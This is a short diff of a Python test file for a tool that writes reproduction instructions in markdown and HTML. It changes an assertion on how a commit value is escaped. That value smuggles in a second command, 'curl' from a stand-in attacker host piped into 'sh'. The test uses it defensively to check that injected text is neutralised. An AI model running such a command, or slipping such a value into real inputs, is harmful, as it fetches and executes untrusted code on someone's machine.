@@ -294,7 +294,7 @@ def test_only_a_commit_is_told_to_be_checked_out(make: Make, tmp_path: Path) -> 
     for text in (markdown, html):
         assert "git checkout" not in text
         assert "mlflow run . -e reproduce -P run_id=" in text
-    assert "- commit: main; curl http&#58;//evil.example.org \\| sh" in markdown
+    assert "- commit: main; curl http\\://evil.example.org \\| sh" in markdown
 
 
 @pytest.mark.parametrize("width", [1280, 390])
